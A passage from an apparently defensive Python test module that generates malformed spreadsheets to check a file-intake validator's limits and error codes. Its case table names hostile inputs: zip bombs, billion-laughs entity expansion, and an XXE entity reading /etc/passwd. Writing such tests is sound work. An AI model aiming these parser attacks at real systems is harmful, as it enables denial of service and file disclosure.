            wb[DATA].cell(15_000, 99, value)

        edit(ctx, out, change)

    return build


def _big_but_allowed(ctx: Ctx, out: Path) -> None:
    """The data sheet with 9,960 more rows of 30 columns (J:AM) of numbers and some text: about
    300,000 cells, inside every limit; bgindex reads it whole within the time and memory bounds."""
    parts = members(ctx.valid)
    part = sheet_part(parts, DATA)
    xml = parts[part]
    head, tail = xml.split(b"</sheetData>")
    letters = [col_letter(c) for c in range(9, 39)]
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            if name != part:
                zf.writestr(name, data)
        with zf.open(part, "w") as fh:
            fh.write(head)
            for r in range(41, 10_001):
                cells = "".join(
                    f'<c r="{c}{r}" t="n"><v>{r * 7 + i}</v></c>'
                    if i % 5
                    else f'<c r="{c}{r}" t="inlineStr"><is><t>ghi chú {r}</t></is></c>'
                    for i, c in enumerate(letters)
                )
                fh.write(f'<row r="{r}">{cells}</row>'.encode())
            fh.write(b"</sheetData>" + tail)


# ---- builders: one per published limit (each just over it), and the zip flags ------------------


def _too_large(ctx: Ctx, out: Path) -> None:
    """The valid workbook followed by zeros up to 1 MB over MAX_FILE_BYTES (sparse: no disk)."""
    from bgindex.intake.limits import MAX_FILE_BYTES

    shutil.copy(ctx.valid, out)
    with open(out, "r+b") as fh:
        fh.truncate(MAX_FILE_BYTES + 2**20)


def _with_member(name: str, data: bytes, method: int = zipfile.ZIP_DEFLATED) -> Builder:
    """The valid workbook with one more member, written with this compression method."""

    def build(ctx: Ctx, out: Path) -> None:
        shutil.copy(ctx.valid, out)
        with zipfile.ZipFile(out, "a") as zf:
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, compress_type=method)

    return build


def _large_picture(ctx: Ctx, out: Path) -> None:
    """A 22 MB picture (random bytes behind a PNG signature, stored as Excel stores PNGs that do
    not compress): over the one-member limit, but a picture is never parsed."""
    png = b"\x89PNG\r\n\x1a\n" + random.Random(22).randbytes(22 * 1024 * 1024)

    def change(parts: dict[str, bytes]) -> None:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"<Default ", b'<Default Extension="png" ContentType="image/png"/><Default ', 1
        )

    zip_edit(ctx, out, change)
    with zipfile.ZipFile(out, "a") as zf:
        zf.writestr("xl/media/image1.png", png, compress_type=zipfile.ZIP_STORED)


def _low_entropy(size: int, seed: int) -> bytes:
    """Bytes that deflate about 15:1 (one '1' in sixteen among '0's): far below a bomb's ratio."""
    table = bytes(0x31 if i < 16 else 0x30 for i in range(256))
    return random.Random(seed).randbytes(size).translate(table)


def _total_inflated(ctx: Ctx, out: Path) -> None:
    """Three 15 MB members that deflate about 15:1: each within the limits, 45 MB together."""
    shutil.copy(ctx.valid, out)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for i in range(3):
            zf.writestr(f"xl/embeddings/oleObject{i + 1}.bin", _low_entropy(15 * 1024 * 1024, i))


def _sheets_300(ctx: Ctx, out: Path) -> None:
    _many_sheets_n(ctx, out, 300)


def _xml_elements(ctx: Ctx, out: Path) -> None:
    """Two extra sheets of 4,000 rows x 103 empty cells each: ~830,000 XML elements in all, every
    cell within the farthest-cell limits and each part under the ratio floor."""
    row = b"<row>" + b"<c/>" * 103 + b"</row>"
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + row * 4000
        + b"</sheetData></worksheet>"
    )

    def change(parts: dict[str, bytes]) -> None:
        _add_sheets(parts, {f"Trang thêm {i}": sheet for i in (1, 2)})

    zip_edit(ctx, out, change)


def _cell_budget(ctx: Ctx, out: Path) -> None:
    """A value at DA16000: the data sheet spans 16,000 rows x 105 columns (1,680,000 cells), each
    side within the farthest-cell limits but over the cell budget."""
    edit(ctx, out, lambda wb: wb[DATA].cell(16_000, 105, "ô xa"))


def _many_merges(ctx: Ctx, out: Path) -> None:
    """10,001 merged ranges (AA1:AB1, AA2:AB2, …) on the data sheet."""

    def change(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, DATA)
        merges = "".join(f'<mergeCell ref="AA{r}:AB{r}"/>' for r in range(1, 10_002))
        parts[part] = parts[part].replace(
            b"</sheetData>", f'</sheetData><mergeCells count="10001">{merges}</mergeCells>'.encode(), 1
        )

    zip_edit(ctx, out, change)


def _bad_crc(ctx: Ctx, out: Path) -> None:
    """styles.xml intact, but the CRC its headers declare is off by one."""
    shutil.copy(ctx.valid, out)
    with zipfile.ZipFile(out) as zf:
        info = zf.getinfo("xl/styles.xml")
    _patch_sizes(out, "xl/styles.xml", info.file_size, (info.CRC + 1) & 0xFFFFFFFF)


def _bzip2(ctx: Ctx, out: Path) -> None:
    """styles.xml compressed with bzip2 (zip method 12), which Excel never writes."""
    parts = members(ctx.valid)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            method = zipfile.ZIP_BZIP2 if name == "xl/styles.xml" else zipfile.ZIP_DEFLATED
            zf.writestr(name, data, compress_type=method)


def _zip_encrypted_flag(ctx: Ctx, out: Path) -> None:
    """styles.xml flagged as encrypted (general-purpose bit 0) in its local and central headers."""
    shutil.copy(ctx.valid, out)
    data = bytearray(out.read_bytes())
    with zipfile.ZipFile(out) as zf:
        local = zf.getinfo("xl/styles.xml").header_offset
    data[local + 6] |= 1
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + name_len] == b"xl/styles.xml":
            data[pos + 8] |= 1
        pos = data.find(b"PK\x01\x02", pos + 4)
    out.write_bytes(bytes(data))


def _xls_records(ctx: Ctx, out: Path) -> None:
    """An .xls whose one sheet holds 810,000 empty records (4 bytes each) between BOF and EOF."""
    bof = struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 0)
    name = "Trang 1".encode("utf-16-le")
    head_len = 4 + len(bof) + 4 + 8 + len(name) + 4
    bound = struct.pack("<IBBBB", head_len, 0, 0, 7, 1) + name
    globals_ = _biff((0x0809, bof), (0x0085, bound), (0x000A, b""))
    assert len(globals_) == head_len
    sheet = _biff((0x0809, struct.pack("<HHHHII", 0x0600, 0x10, 0, 0, 0, 0))) + b"\x00\x00\x00\x00" * 810_000
    out.write_bytes(write_cfb({"Workbook": globals_ + sheet + _biff((0x000A, b""))}))


# ---- the table ------------------------------------------------------------------------------------

_UNSAFE_TODO_VI = "Không mở tệp; đề nghị cơ quan điền lại vào biểu mẫu mới và gửi lại."
_UNSAFE_TODO_EN = "Do not open it; ask the agency to fill in a fresh template and send it again."
_SAVE_XLSX_VI = "Đề nghị cơ quan mở bằng Excel, Lưu thành (Save As) › Excel Workbook (.xlsx), gửi lại."
_SAVE_XLSX_EN = "Ask the agency to open it in Excel, Save As › Excel Workbook (.xlsx), and resend."
_NOTHING_VI = "Không cần làm gì; số liệu được đọc bình thường."
_NOTHING_EN = "Nothing; the figures are read as usual."

CASES: list[Case] = [
    # -- not a spreadsheet, or not one we read ---------------------------------------------------------
    Case(
        "rong.xlsx",
        _empty,
        "E_FILE_EMPTY",
        3,
        "Tệp 0 byte.",
        "A 0-byte file.",
        "Đề nghị cơ quan gửi lại tệp đã điền.",
        "Ask the agency to send the filled file again.",
    ),
    Case(
        "ngau-nhien.xlsx",
        _random,
        "E_FILE_NOT_SPREADSHEET",
        3,
        "6 KB byte ngẫu nhiên.",
        "6 KB of random bytes.",
        "Đề nghị gửi lại đúng tệp .xlsx.",
        "Ask for the right .xlsx file.",
    ),
    Case(
        "pdf-doi-ten.xlsx",
        _pdf,
        "E_FILE_NOT_SPREADSHEET",
        3,
        "Tệp PDF đổi đuôi thành .xlsx.",
        "A PDF renamed .xlsx.",
        "Đề nghị gửi tệp Excel, không gửi bản PDF/bản quét.",
        "Ask for the Excel file, not a PDF or scan.",
    ),
    Case(
        "csv-doi-ten.xls",
        _csv,
        "E_FILE_DISGUISED",
        3,
        "Tệp CSV đổi đuôi thành .xls.",
        "A CSV file renamed .xls.",
        _SAVE_XLSX_VI,
        _SAVE_XLSX_EN,
    ),
    Case(
        "html-doi-ten.xls",
        _html,
        "E_FILE_DISGUISED",
        3,
        "Bảng HTML đổi đuôi thành .xls (kiểu tệp xuất từ phần mềm).",
        "An HTML table renamed .xls (as exported by some software).",
        _SAVE_XLSX_VI,
        _SAVE_XLSX_EN,
    ),
    Case(
        "xml2003-doi-ten.xls",
        _xml2003,
        "E_FILE_DISGUISED",
        3,
        "Bảng tính XML 2003 (SpreadsheetML) đổi đuôi thành .xls.",
        "An Excel 2003 XML spreadsheet renamed .xls.",
        _SAVE_XLSX_VI,
        _SAVE_XLSX_EN,
    ),
    Case(
        "word-doi-ten.xlsx",
        _docx,
        "E_FILE_NOT_SPREADSHEET",
        3,
        "Tài liệu Word (.docx) đổi đuôi.",
        "A Word .docx renamed .xlsx.",
        "Đề nghị gửi biểu mẫu Excel đã điền, không gửi công văn.",
        "Ask for the filled Excel template, not the cover letter.",
    ),
    Case(
        "word97-doi-ten.xls",
        _doc97,
        "E_FILE_NOT_SPREADSHEET",
        3,
        "Tài liệu Word 97–2003 (.doc) đổi đuôi thành .xls.",
        "A Word 97–2003 .doc renamed .xls.",
        "Đề nghị gửi biểu mẫu Excel đã điền.",
        "Ask for the filled Excel template.",
    ),
    Case(
        "nen-zip.xlsx",
        _plain_zip,
        "E_FILE_NOT_SPREADSHEET",
        3,
        "Tệp nén ZIP thường đổi đuôi.",
        "An ordinary ZIP archive renamed .xlsx.",
        "Giải nén, lấy đúng tệp .xlsx bên trong.",
        "Unzip it and take the .xlsx inside.",
    ),
    Case(
        "cat-cut.xlsx",
        _truncated,
        "E_FILE_CORRUPT",
        3,
        "Tệp .xlsx bị cắt mất nửa sau (tải dở).",
        "An .xlsx cut in half (an interrupted download).",
        "Tải lại tệp từ thư điện tử.",
        "Download the attachment again.",
    ),
    Case(
        "xls-hong.xls",
        _broken_ole,
        "E_FILE_CORRUPT",
        3,
        "Tệp .xls hỏng (đầu tệp OLE, nội dung rác).",
        "A broken .xls (OLE header, garbage after).",
        "Đề nghị cơ quan mở và lưu lại, rồi gửi lại.",
        "Ask the agency to open and re-save it.",
    ),
    Case(
        "xls-ban-ghi-ngan.xls",
        _xls_short_record,
        "E_FILE_CORRUPT",
        3,
        "Tệp .xls có bản ghi tên (Lbl) cụt làm trình đọc calamine dừng đột ngột (panic).",
        "An .xls with a truncated name record that makes calamine panic.",
        "Đề nghị cơ quan mở và lưu lại, rồi gửi lại.",
        "Ask the agency to open and re-save it.",
    ),
    Case(
        "bang-tinh-nhi-phan.xlsb",
        _xlsb,
        "E_FILE_UNSUPPORTED",
        3,
        "Bảng tính nhị phân Excel (.xlsb).",
        "An Excel binary workbook (.xlsb).",
        _SAVE_XLSX_VI,
        _SAVE_XLSX_EN,
    ),
    Case(
        "mat-khau.xlsx",
        _encrypted,
        "E_FILE_ENCRYPTED",
        3,
        "Tệp .xlsx đặt mật khẩu mở tệp.",
        "An .xlsx encrypted with an open password.",
        "Đề nghị cơ quan gỡ mật khẩu (File › Info › Protect Workbook) và gửi lại.",
        "Ask the agency to remove the password and resend.",
    ),
    Case(
        "mat-khau.xls",
        _xls_encrypted,
        "E_FILE_ENCRYPTED",
        3,
        "Tệp .xls (Excel 97–2003) có bản ghi mã hóa FILEPASS (đặt mật khẩu mở tệp).",
        "An Excel 97–2003 .xls starting with a FILEPASS (encryption) record.",
        "Đề nghị cơ quan gỡ mật khẩu và gửi lại.",
        "Ask the agency to remove the password and resend.",
    ),
    Case(
        "mat-khau.ods",
        _copy,
        "E_FILE_ENCRYPTED",
        3,
        "Tệp .ods khai báo nội dung đã mã hóa (như khi LibreOffice lưu có mật khẩu).",
        "An .ods whose manifest declares encrypted content (as LibreOffice's password save does).",
        "Đề nghị cơ quan lưu lại không đặt mật khẩu và gửi lại.",
        "Ask the agency to save it without a password.",
        convert="ods",
        post=_ods_encrypted,
    ),
    Case(
        "macro-cong-thuc.xlsm",
        _macro_formulas,
        "E_FILE_MACRO",
        3,
        "Tệp có macro (vbaProject.bin) và công thức trong vùng số liệu.",
        "A macro workbook with a formula in the data area.",
        "Đề nghị lưu thành .xlsx và nhập trực tiếp số liệu thay cho công thức.",
        "Ask for a plain .xlsx with values typed in, not formulas.",
    ),
    # -- unsafe -------------------------------------------------------------------------------------
    Case(
        "bom-nen.xlsx",
        _bomb,
        "E_FILE_UNSAFE",
        3,
        "Bom nén: trang số liệu ~420 MB XML nén còn ~1,2 MB.",
        "A zip bomb: ~420 MB of sheet XML deflated to ~1.2 MB.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "khai-thieu-kich-thuoc.xlsx",
        _under_declared,
        "E_FILE_UNSAFE",
        3,
        "Tệp nén khai kích thước trang số liệu nhỏ hơn thật.",
        "The zip directory under-declares the data sheet's size.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "khai-thieu-bom.xlsx",
        _under_declared_bomb,
        "E_FILE_UNSAFE",
        3,
        "styles.xml khai đúng kích thước và CRC của phần đầu, nhưng giải nén ra thêm 50 MB.",
        "styles.xml declares the size and CRC of its head but inflates to 50 MB more.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "billion-laughs-chuoi.xlsx",
        _laughs_strings,
        "E_FILE_UNSAFE",
        3,
        "Bom thực thể XML (billion laughs) trong sharedStrings.xml.",
        "Billion-laughs entity expansion in sharedStrings.xml.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "billion-laughs-trang.xlsx",
        _laughs_sheet,
        "E_FILE_UNSAFE",
        3,
        "Bom thực thể XML trong XML của trang số liệu.",
        "Billion laughs in the data sheet's XML.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "dtd-sau-chu-thich.xlsx",
        _dtd_after_comment,
        "E_FILE_UNSAFE",
        3,
        "Khai báo DTD nằm sau 6 KB chú thích XML.",
        "A DTD after a 6 KB XML comment.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "dtd-utf16.xlsx",
        _dtd_utf16,
        "E_FILE_UNSAFE",
        3,
        "sharedStrings.xml mã hóa UTF-16 có khai báo DTD.",
        "A UTF-16 sharedStrings.xml with a DTD.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "xxe-passwd.xlsx",
        _xxe,
        "E_FILE_UNSAFE",
        3,
        "Thực thể ngoài (XXE) trỏ tới /etc/passwd trong một ô.",
        "An external entity (XXE) pointing at /etc/passwd.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "hang-nghin-trang.xlsx",
        _many_sheets,
        "E_FILE_UNSAFE",
        3,
        "Thêm 3.000 trang tính.",
        "3,000 extra sheets.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "trung-ten-trang.xlsx",
        _duplicate_sheet_names,
        "E_FILE_UNSAFE",
        3,
        "Hai trang cùng tên 'Số liệu' (trang mồi có ô ở XFD1048576).",
        "Two sheets named 'Số liệu' (the decoy has a cell at XFD1048576).",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "trung-ten-thanh-phan.xlsx",
        _duplicate_members,
        "E_FILE_UNSAFE",
        3,
        "Hai thành phần nén cùng tên (hai bản XML của trang số liệu).",
        "Two zip members with the same name (two versions of the data sheet).",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "o-cuoi-trang-so-lieu.xlsx",
        _far_cell(DATA),
        "E_SHEET_TOO_LARGE",
        3,
        "Một giá trị ở ô cuối cùng XFD1048576 của trang số liệu.",
        "One value in the last cell (XFD1048576) of the data sheet.",
        "Xóa ô thừa ở xa (Ctrl+End để tìm), lưu lại và gửi lại.",
        "Delete the stray far cell (Ctrl+End finds it), save and resend.",
    ),
    Case(
        "o-khong-dia-chi.xlsx",
        _row_index_trick,
        "E_SHEET_TOO_LARGE",
        3,
        'Ô không ghi địa chỉ sau <row r="1048576">: thực chất ở dòng 1.048.576.',
        'An address-less cell after <row r="1048576">: it lands on row 1,048,576.',
        "Xóa ô thừa ở xa, lưu lại và gửi lại.",
        "Delete the stray far cell, save and resend.",
    ),
    Case(
        "xls-o-xa.xls",
        _xls_far,
        "E_SHEET_TOO_LARGE",
        3,
        "Tệp .xls có giá trị ở ô cuối IV65536 của trang số liệu.",
        "An .xls with a value in the last cell (IV65536) of the data sheet.",
        "Xóa ô thừa ở xa, lưu lại và gửi lại.",
        "Delete the stray far cell, save and resend.",
        convert="xls",
    ),
    Case(
        "xls-kich-thuoc-gia.xls",
        _copy,
        "E_SHEET_TOO_LARGE",
        3,
        "Tệp .xls khai kích thước trang (bản ghi DIMENSIONS) 65.536 × 256 ô.",
        "An .xls whose DIMENSIONS record claims 65,536 x 256 cells.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
        convert="xls",
        post=_xls_dimensions,
    ),
    Case(
        "xls-bang-chuoi-gia.xls",
        _copy,
        "E_FILE_UNSAFE",
        3,
        "Tệp .xls khai bảng chuỗi 2 tỷ chuỗi.",
        "An .xls whose string table claims 2 billion strings.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
        convert="xls",
        post=_xls_sst,
    ),
    Case(
        "ods-o-xa.ods",
        _ods_far,
        "E_SHEET_TOO_LARGE",
        3,
        "Tệp .ods có giá trị ở ô AMJ1048576 của trang số liệu.",
        "An .ods with a value at AMJ1048576 on the data sheet.",
        "Xóa ô thừa ở xa, lưu lại và gửi lại.",
        "Delete the stray far cell, save and resend.",
        convert="ods",
    ),
    Case(
        "ods-khoang-trang.ods",
        _copy,
        "E_FILE_UNSAFE",
        3,
        "Tệp .ods có một ô khai 2 tỷ khoảng trắng (<text:s text:c=…>).",
        "An .ods cell declaring 2 billion spaces (<text:s text:c=…>).",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
        convert="ods",
        post=_ods_spaces,
    ),
    # -- readable, with warnings or data errors ------------------------------------------------------------
    Case(
        "qua-26mb.xlsx",
        _too_large,
        "E_FILE_TOO_LARGE",
        3,
        "Tệp 26 MB, vượt giới hạn dung lượng 25 MB (biểu mẫu kèm số 0 ở cuối).",
        "A 26 MB file, over the 25 MB file-size limit (the workbook followed by zeros).",
        "Đề nghị cơ quan gửi lại đúng biểu mẫu (chỉ vài chục KB).",
        "Ask the agency to send the template itself again (a few tens of KB).",
    ),
    Case(
        "ti-le-nen.xlsx",
        _with_member("xl/printerSettings/printerSettings1.bin", bytes(10 * 1024 * 1024)),
        "E_FILE_UNSAFE",
        3,
        "Thành phần 10 MB số 0 nén còn ~10 KB: tỷ lệ nén vượt 150:1.",
        "A 10 MB member of zeros deflated to ~10 KB: over the 150:1 ratio.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "tong-giai-nen.xlsx",
        _total_inflated,
        "E_FILE_UNSAFE",
        3,
        "Ba thành phần 15 MB, mỗi thành phần trong giới hạn, tổng giải nén 45 MB vượt 40 MB.",
        "Three 15 MB members, each within the limits, 45 MB inflated together (over 40 MB).",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "300-trang.xlsx",
        _sheets_300,
        "E_FILE_UNSAFE",
        3,
        "Thêm 300 trang tính trống: vượt giới hạn 255 trang.",
        "300 more empty sheets: over the 255-sheet limit.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "nhieu-phan-tu-xml.xlsx",
        _xml_elements,
        "E_FILE_UNSAFE",
        3,
        "Hai trang thêm, mỗi trang 4.000 dòng × 103 ô trống: ~830.000 phần tử XML, vượt 800.000.",
        "Two more sheets of 4,000 rows x 103 empty cells: ~830,000 XML elements, over 800,000.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "nhieu-ban-ghi.xls",
        _xls_records,
        "E_FILE_UNSAFE",
        3,
        "Tệp .xls có một trang chứa 810.000 bản ghi BIFF rỗng: vượt 800.000.",
        "An .xls whose sheet holds 810,000 empty BIFF records: over 800,000.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "vuot-so-o.xlsx",
        _cell_budget,
        "E_SHEET_TOO_LARGE",
        3,
        "Giá trị ở DA16000: trang số liệu 16.000 dòng × 105 cột (1.680.000 ô), vượt 1.500.000 ô.",
        "A value at DA16000: the data sheet spans 16,000 x 105 = 1,680,000 cells, over 1,500,000.",
        "Xóa ô thừa ở xa (Ctrl+End để tìm), lưu lại và gửi lại.",
        "Delete the stray far cell (Ctrl+End finds it), save and resend.",
    ),
    Case(
        "nhieu-o-gop.xlsx",
        _many_merges,
        "E_FILE_UNSAFE",
        3,
        "Trang số liệu có 10.001 vùng gộp ô (AA1:AB1, AA2:AB2, …): vượt 10.000.",
        "The data sheet has 10,001 merged ranges (AA1:AB1, AA2:AB2, …): over 10,000.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "sai-crc.xlsx",
        _bad_crc,
        "E_FILE_CORRUPT",
        3,
        "styles.xml nguyên vẹn nhưng mã kiểm tra CRC khai báo sai.",
        "styles.xml intact, but its declared CRC is wrong.",
        "Tải lại tệp từ thư điện tử.",
        "Download the file again from the email.",
    ),
    Case(
        "nen-bzip2.xlsx",
        _bzip2,
        "E_FILE_UNSAFE",
        3,
        "styles.xml nén bằng bzip2, kiểu nén Excel không bao giờ dùng.",
        "styles.xml compressed with bzip2, a method Excel never writes.",
        _UNSAFE_TODO_VI,
        _UNSAFE_TODO_EN,
    ),
    Case(
        "co-ma-hoa-zip.xlsx",
        _zip_encrypted_flag,
        "E_FILE_ENCRYPTED",
        3,
        "styles.xml được đánh dấu mã hóa (bit 0 của cờ ZIP).",
        "styles.xml flagged as encrypted (zip flag bit 0).",
        "Đề nghị cơ quan gỡ mật khẩu và gửi lại.",
        "Ask the agency to remove the password and resend.",
    ),
    Case(
        "o-cuoi-trang-thua.xlsx",
        _far_cell("Trang thêm"),
        None,
        0,
        "Trang thêm (không dùng) có giá trị ở XFD1048576; các trang biểu mẫu bình thường.",
        "An unused extra sheet has a value at XFD1048576; the template's sheets are fine.",
        _NOTHING_VI,
        _NOTHING_EN,
    ),
    Case(
        "macro-khong-cong-thuc.xlsm",
        _macro_plain,
        "W_MACRO_IGNORED",
        0,
        "Tệp có macro nhưng không có công thức: macro không được chạy.",
        "A macro workbook without formulas: macros are never run.",
        "Nhắc cơ quan lần sau lưu thành .xlsx.",
        "Remind the agency to save as .xlsx next time.",
    ),
    Case(
        "lien-ket-ngoai.xlsx",
        _external_link,
        "W_EXTERNAL_LINK",
        0,
        "Tệp có liên kết ngoài (xl/externalLinks/…) tới tệp khác.",
        "An external link part (xl/externalLinks/…) to another file.",
        "Không cần mở liên kết; nhắc cơ quan thay liên kết bằng giá trị.",
        "Links are never followed; remind the agency to paste values.",
    ),
    Case(
        "khong-phai-bieu-mau.xlsx",
        _not_template,
        "E_NOT_TEMPLATE",
        1,
        "Bảng tính tự lập, không dùng biểu mẫu bgindex.",
        "A home-made workbook, not a bgindex template.",
        "Gửi biểu mẫu của cơ quan (bgindex template) để cơ quan điền lại.",
        "Send the agency its template to fill in.",
    ),
    Case(
        "o-gop.xlsx",
        _merged,
        "E_MERGED_CELL",
        1,
        "Gộp ô D6:E6 và E9:E10 trong vùng số liệu.",
        "Cells merged over values: D6:E6 and E9:E10.",
        "Đề nghị bỏ gộp ô (Unmerge) và nhập số liệu vào từng ô.",
        "Ask the agency to unmerge and fill each cell.",
        where=(f"{DATA}!D6", f"{DATA}!E9"),
        absent=("E_REQUIRED_MISSING", "E_VARIABLE_MISSING"),
    ),
    Case(
        "o-gop-cot-ma.xlsx",
        _merged_codes,
        "E_MERGED_CELL",
        1,
        "Gộp hai ô mã A6:A7 (dòng 7 mất mã).",
        "Two code cells merged, A6:A7 (row 7 loses its code).",
        "Đề nghị bỏ gộp ô và ghi lại mã ở từng dòng.",
        "Ask the agency to unmerge and restore the codes.",
        where=(f"{DATA}!A6",),
        absent=("E_REQUIRED_MISSING", "E_VARIABLE_MISSING", "W_UNKNOWN_CODE"),
    ),
    Case(
        "dong-an.xlsx",
        _hidden_rows,
        "W_HIDDEN_ROW",
        0,
        "Dòng 6–7 của trang số liệu bị ẩn.",
        "Data rows 6–7 hidden.",
        "Nhắc cơ quan bỏ ẩn dòng; số liệu vẫn được đọc.",
        "Remind the agency to unhide them; the values are read.",
        where=(f"{DATA}!A6", f"{DATA}!A7"),
    ),
    Case(
        "trang-an.xlsx",
        _hidden_sheet,
        "W_HIDDEN_SHEET",
        0,
        "Trang số liệu bị ẩn.",
        "The data sheet hidden.",
        "Nhắc cơ quan bỏ ẩn trang; số liệu vẫn được đọc.",
        "Remind the agency to unhide it; the values are read.",
    ),
    Case(
        "doi-ten-trang.xlsx",
        _renamed,
        None,
        0,
        "Mọi trang bị đổi tên thành Sheet1…Sheet5.",
        "Every sheet renamed Sheet1…Sheet5.",
        "Không cần làm gì; trang được nhận ra theo nội dung.",
        "Nothing; sheets are found by their content.",
    ),
    Case(
        "xoa-trang-so-lieu.xlsx",
        _deleted,
        "E_SHEET_MISSING",
        1,
        "Trang số liệu bị xóa.",
        "The data sheet deleted.",
        "Gửi lại biểu mẫu để cơ quan điền lại.",
        "Send the template again to be filled in.",
    ),
    Case(
        "loi-chia-0.xlsx",
        _div0,
        "E_FORMULA_ERROR",
        1,
        "Ô E6 có công thức cho kết quả #DIV/0!.",
        "E6 holds a formula whose cached result is #DIV/0!.",
        "Đề nghị sửa công thức hoặc nhập trực tiếp giá trị.",
        "Ask for the formula fixed or a value typed.",
        where=(f"{DATA}!{VALUE}",),
        absent=("E_REQUIRED_MISSING",),
    ),
    Case(
        "o-32767-ky-tu.xlsx",
        _long_cause,
        None,
        0,
        "Nguyên nhân dài 32.767 ký tự (tối đa của Excel).",
        "A 32,767-character cause (Excel's maximum).",
        _NOTHING_VI,
        _NOTHING_EN,
    ),
    Case(
        "ky-tu-dieu-khien.xlsx",
        _control_chars,
        "W_CONTROL_CHARS",
        0,
        "Nguyên nhân có ký tự điều khiển (_x0007_, U+0085, U+200B, U+FEFF).",
        "A cause with control characters (_x0007_, U+0085, U+200B, U+FEFF).",
        "Không cần làm gì; ký tự đã được bỏ đi.",
        "Nothing; they are removed.",
        where=(f"{DATA}!{CAUSE}",),
    ),
    Case(
        "nfd.xlsx",
        _nfd,
        None,
        0,
        "Mọi chữ (tên trang, tiêu đề, nội dung) ở dạng Unicode tổ hợp NFD.",
        "All text (sheet names, headers, values) in decomposed Unicode (NFD).",
        _NOTHING_VI,
        _NOTHING_EN,
    ),
    Case(
        "tcvn3.xlsx",
        _legacy(TCVN3_CAUSE),
        "W_LEGACY_ENCODING",
        0,
        "Nguyên nhân gõ bằng phông TCVN3 (ABC).",
        "A cause typed in a TCVN3 (ABC) font.",
        "Xem cách đọc Unicode trong thông báo; nhắc cơ quan gõ Unicode.",
        "Check the Unicode reading shown; ask for Unicode next time.",
        where=(f"{DATA}!{CAUSE}",),
    ),
    Case(
        "vni.xlsx",
        _legacy(VNI_CAUSE),
        "W_LEGACY_ENCODING",
        0,
        "Nguyên nhân gõ bằng phông VNI.",
        "A cause typed in a VNI font.",
        "Xem cách đọc Unicode trong thông báo; nhắc cơ quan gõ Unicode.",
        "Check the Unicode reading shown; ask for Unicode next time.",
        where=(f"{DATA}!{CAUSE}",),
    ),
    Case(
        "ngay-dang-chu.xlsx",
        _dates_as_text,
        "W_DATE_AS_TEXT",
        0,
        "Ngày báo cáo và ngày văn bản gõ dạng chữ '10/02/2025'.",
        "Report and document dates typed as text ('10/02/2025').",
        "Không cần làm gì; ngày được đọc và hiện trong cảnh báo.",
        "Nothing; the date read is shown.",
        where=(f"{INFO}!{REPORT_DATE}", f"{DOCS}!{DOC_DATE}"),
    ),
    Case(
        "chu-giong-cong-thuc.xlsx",
        _formula_text,
        None,
        0,
        "Nguyên nhân, biện pháp, trích yếu bắt đầu bằng =, +, -, @ và có thẻ HTML.",
        "Causes, measures and summaries starting with =, +, -, @ and holding HTML markup.",
        "Không cần làm gì; nội dung luôn được giữ là chữ.",
        "Nothing; they always stay text.",
    ),
    Case(
        "cong-thuc-hyperlink.xlsx",
        _cause_formula('HYPERLINK("http://vi-du.invalid/x","Bấm vào đây")', "Bấm vào đây"),
        "W_FORMULA_HYPERLINK",
        0,
        "Nguyên nhân là công thức HYPERLINK có giá trị đã lưu 'Bấm vào đây'.",
        "The cause is a HYPERLINK formula whose cached value is 'Bấm vào đây'.",
        "Không cần làm gì; nội dung hiển thị được đọc, bản chú thích không giữ liên kết.",
        "Nothing; the shown text is read, the annotated copy keeps no link.",
        where=(f"{DATA}!{CAUSE}",),
    ),
    Case(
        "cong-thuc-hyperlink.ods",
        _cause_formula('HYPERLINK("http://vi-du.invalid/x","Bấm vào đây")', "Bấm vào đây"),
        "W_FORMULA_HYPERLINK",
        0,
        "Như cong-thuc-hyperlink.xlsx, lưu dạng .ods.",
        "cong-thuc-hyperlink.xlsx saved as .ods.",
        "Như cong-thuc-hyperlink.xlsx.",
        "As cong-thuc-hyperlink.xlsx.",
        where=(f"{DATA}!{CAUSE}",),
        convert="ods",
    ),
    Case(
        "cong-thuc-hyperlink.xls",
        _cause_formula('HYPERLINK("http://vi-du.invalid/x","Bấm vào đây")', "Bấm vào đây"),
        "W_FORMULA_UNSEEN",
        0,
